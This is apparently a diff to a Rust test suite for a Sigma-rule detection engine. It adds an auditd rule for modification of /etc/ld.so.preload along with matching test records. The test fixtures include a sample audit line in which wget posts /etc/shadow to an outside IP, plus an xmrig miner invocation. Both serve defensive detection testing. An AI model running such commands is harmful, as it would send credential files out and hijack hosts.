@@ -1262,8 +1262,8 @@ level: high
         assert_eq!(f.domain, Domain::Identity);
     }
 
-    /// SigmaHQ's `lnx_auditd_data_exfil_wget` and `lnx_auditd_coinminer`
-    /// (their detections), on audit records.
+    /// SigmaHQ's `lnx_auditd_data_exfil_wget`, `lnx_auditd_coinminer` and
+    /// `lnx_auditd_ld_so_preload_mod` (their detections), on audit records.
     const AUDIT_RULES: &str = r#"
 title: Data Exfiltration with Wget
 id: cb39d16b-b3b6-4a7a-8222-1cf24b686ffc
@@ -1290,19 +1290,33 @@ detection:
         a2|startswith: '--cpu-priority'
     condition: 1 of cmd*
 level: critical
+---
+title: Modification of ld.so.preload
+id: 4b3cb710-5e83-4715-8c45-8b2b5b3e5751
+logsource:
+    product: linux
+    service: auditd
+detection:
+    selection:
+        type: 'PATH'
+        name: '/etc/ld.so.preload'
+    condition: selection
+level: high
 "#;
 
     #[test]
     fn auditd_rules_read_the_audit_keys_of_audit_records_only() {
         let load = load_str(AUDIT_RULES, "a.yml");
-        assert_eq!(load.loaded, 2, "{:?}", load.refused);
+        assert_eq!(load.loaded, 3, "{:?}", load.refused);
         let exfil = "node=db-1 type=EXECVE msg=audit(1772366400.000:10): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://198.51.100.7/\"";
         // hex, as audit writes an argument with a space
         let miner = "node=db-2 type=EXECVE msg=audit(1772366401.000:11): argc=3 a0=\"./xmrig\" a1=2D2D6370752D7072696F72697479203520 a2=\"-o\"";
         // the same words in a syslog line are not an audit record
         let syslog = "Mar  1 12:00:02 db-3 cron[7]: wget --post-file=/etc/shadow --cpu-priority 5";
         let download = "node=db-4 type=EXECVE msg=audit(1772366402.000:12): argc=2 a0=\"wget\" a1=\"http://deb.debian.org/x\"";
-        let out = run(&[exfil, miner, syslog, download], load);
+        let preload = "node=db-5 type=PATH msg=audit(1772366403.000:13): item=0 name=\"/etc/ld.so.preload\" inode=1234 nametype=CREATE";
+        let other_path = "node=db-6 type=PATH msg=audit(1772366404.000:14): item=0 name=\"/etc/hosts\" inode=99 nametype=NORMAL";
+        let out = run(&[exfil, miner, syslog, download, preload, other_path], load);
         let mut opened: Vec<(&str, &str, Domain)> = out
             .iter()
             .filter(|f| f.status == Status::Open)
@@ -1315,6 +1329,11 @@ level: critical
                 (
                     "Data Exfiltration with Wget",
                     "db-1",
+                    Domain::Infrastructure
+                ),
+                (
+                    "Modification of ld.so.preload",
+                    "db-5",
                     Domain::Infrastructure
                 ),
                 (
